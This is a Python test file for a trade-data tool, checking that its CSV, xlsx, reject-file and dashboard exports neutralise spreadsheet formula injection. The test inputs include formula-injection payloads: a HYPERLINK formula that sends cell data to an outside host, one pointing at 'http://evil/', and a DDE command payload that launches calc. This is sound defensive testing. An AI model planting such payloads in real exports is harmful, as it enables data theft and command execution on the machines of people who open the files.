"""Spreadsheet formula injection: text cells starting with = + - @ tab or CR are written with a
leading apostrophe in every CSV and xlsx transship writes; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pyarrow as pa
import pytest
from typer.testing import CliRunner

from tests.conftest import write
from transship.cli import app
from transship.output import emit
from transship.safepath import safe_cell, safe_table

runner = CliRunner()

EVIL = ['=HYPERLINK("http://x/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]


def test_safe_cell_prefixes_text_only() -> None:
    assert [safe_cell(v) for v in EVIL] == ["'" + v for v in EVIL]
    assert safe_cell("Acme = good") == "Acme = good"  # only the first character counts
    assert safe_cell(-5) == -5 and safe_cell(-2.5) == -2.5 and safe_cell(None) is None
    t = safe_table(pa.table({"name": [*EVIL, "ok", None], "v": [-1.0] * 8}))
    assert t.column("name").to_pylist() == ["'" + v for v in EVIL] + ["ok", None]
    assert t.column("v").to_pylist() == [-1.0] * 8 and t.schema == pa.schema(
        [("name", pa.string()), ("v", pa.float64())]
    )


@pytest.mark.parametrize("as_table", [True, False])
def test_csv_and_xlsx_from_emit(tmp_path: Path, as_table: bool) -> None:
    import openpyxl

    rows = [{"party": v, "change": -0.25, "n": -3} for v in EVIL]
    data = pa.Table.from_pylist(rows) if as_table else rows
    emit(data, out=tmp_path / "o.csv")
    with (tmp_path / "o.csv").open(encoding="utf-8", newline="") as fh:  # keep the CR cell
        got = list(csv.DictReader(fh))
    assert [r["party"] for r in got] == ["'" + v for v in EVIL]
    assert {r["change"] for r in got} == {"-0.25"} and {r["n"] for r in got} == {"-3"}
    emit(data, out=tmp_path / "o.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "o.xlsx").active
    assert ws is not None
    cells = list(ws.iter_rows(min_row=2, values_only=True))
    # (XML stores a CR in text as a line feed)
    assert [c[0] for c in cells] == ["'" + v.replace("\r", "\n") for v in EVIL]
    assert {c[1] for c in cells} == {-0.25} and {c[2] for c in cells} == {-3}  # numeric cells


def test_screen_decisions_csv_neutralises_party_names(tmp_path: Path) -> None:
    decl = write(
        tmp_path / "decl.csv",
        "id,date,origin_country,destination_country,hs_code,exporter_name\n"
        '=1+1,2024-11-05,US,RU,854231,"=HYPERLINK(""http://evil/"")"\n'
        "b,2024-11-05,US,KZ,030389,@Acme\n",
    )
    out = tmp_path / "decisions.csv"
    result = runner.invoke(
        app,
        ["-w", str(tmp_path / "w.duckdb"), "screen", str(decl), "--no-lists", "--out", str(out)],
    )
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["id"] == "'=1+1" and rows[0]["exporter_name"] == '\'=HYPERLINK("http://evil/")'
    assert rows[1]["exporter_name"] == "'@Acme"
    for row in rows:  # no field of any row starts a formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
    import openpyxl

    xlsx = tmp_path / "decisions.xlsx"
    result = runner.invoke(
        app,
        ["-w", str(tmp_path / "w.duckdb"), "screen", str(decl), "--no-lists", "--out", str(xlsx)],
    )
    assert result.exit_code == 0, result.output
    ws = openpyxl.load_workbook(xlsx).active
    assert ws is not None and ws.freeze_panes == "A2"
    header = [c.value for c in ws[1]]
    cells = list(ws.iter_rows(min_row=2, values_only=True))
    col = header.index("exporter_name")
    assert [r[col] for r in cells] == ['\'=HYPERLINK("http://evil/")', "'@Acme"]
    assert all(not str(v).startswith(("=", "+", "-", "@")) for r in cells for v in r if v)


def test_reject_file_neutralises_the_raw_row(tmp_path: Path) -> None:
    f = write(tmp_path / "e.csv", "rep,par,hs,month,usd\nTUR,RUS,854231,2023-01,=1+2\n")
    rejects = tmp_path / "r.csv"
    result = runner.invoke(
        app,
        ["-w", str(tmp_path / "w.duckdb"), "ingest", "csv", str(f), "--source", "t", "--set",
         "flow=export", "--map", "rep=reporter", "--map", "par=partner", "--map", "hs=hs",
         "--map", "month=period", "--map", "usd=value_usd", "--reject-file", str(rejects)],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    (row,) = list(csv.DictReader(io.StringIO(rejects.read_text(encoding="utf-8"))))
    assert row["value"] == "'=1+2" and row["line"] == "2"


def test_dashboard_csv_download_is_neutralised() -> None:
    from transship.web.dashboard import table_csv

    text = table_csv([{"name": "=cmd|' /C calc'!A0", "value_usd": -12.5}], synthetic=True)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["SYNTHETIC", "'=cmd|' /C calc'!A0", "-12.5"]
